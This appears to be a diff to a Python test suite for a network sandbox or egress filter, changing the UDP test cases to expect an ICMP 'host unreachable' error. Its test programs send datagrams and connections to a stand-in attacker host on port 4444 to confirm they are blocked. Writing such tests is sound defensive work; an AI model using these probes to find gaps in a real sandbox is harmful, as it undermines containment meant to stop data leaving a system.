@@ -12,6 +12,7 @@ www.allowed.example:80|443
 
 PRELUDE = """
 import errno, os, socket, struct, sys, time
+IP_RECVERR = 11  # linux/in.h
 def query(name, ident=7):
     labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
     return struct.pack(">HHHHHH", ident, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", 1, 1)
@@ -58,6 +59,8 @@ s.send(b"ping"); select.select([s], [], [], 5); print(s.recv(9))""", "ping"),
 # What the kernel, or a filter of system calls, says of a send or of a socket that may not be.
 REFUSAL = ("EPERM", "EACCES")
 NO_SOCKET = (*REFUSAL, "EAFNOSUPPORT")
+# What an ICMP error, which answers a datagram at once, says of the send before.
+UNREACHABLE = ("EHOSTUNREACH",)
 
 # name, program that ends within two seconds and prints one of the words
 REFUSED = [
@@ -68,17 +71,18 @@ try:
 except OSError as error: print(errno.errorcode[error.errno])""",
      ("ECONNRESET", "ECONNREFUSED", "EPERM", "end of file")),
     ("datagram, unconnected", f"""
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-try: s.sendto(b"x", ("{ATTACKER}", 4444)); print("sent")
-except OSError as error: print(errno.errorcode[error.errno])""", REFUSAL),
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
+s.setsockopt(socket.IPPROTO_IP, IP_RECVERR, 1)
+try: s.sendto(b"x", ("{ATTACKER}", 4444)); s.recv(10); print("answered")
+except OSError as error: print(errno.errorcode[error.errno])""", UNREACHABLE),
     ("datagram, connected", f"""
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-try: s.connect(("{ATTACKER}", 4444)); s.send(b"x"); print("sent")
-except OSError as error: print(errno.errorcode[error.errno])""", REFUSAL),
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
+try: s.connect(("{ATTACKER}", 4444)); s.send(b"x"); s.recv(10); print("answered")
+except OSError as error: print(errno.errorcode[error.errno])""", UNREACHABLE),
     ("datagram to port 443 (QUIC)", f"""
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-try: s.sendto(b"x", ("{WWW}", 443)); print("sent")
-except OSError as error: print(errno.errorcode[error.errno])""", REFUSAL),
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
+try: s.connect(("{WWW}", 443)); s.send(b"x"); s.recv(10); print("answered")
+except OSError as error: print(errno.errorcode[error.errno])""", UNREACHABLE),
     ("IPv6 connection", f"""
 try: socket.socket(socket.AF_INET6).connect(("{ATTACKER6}", 443)); print("connected")
 except OSError as error: print(errno.errorcode[error.errno])""",
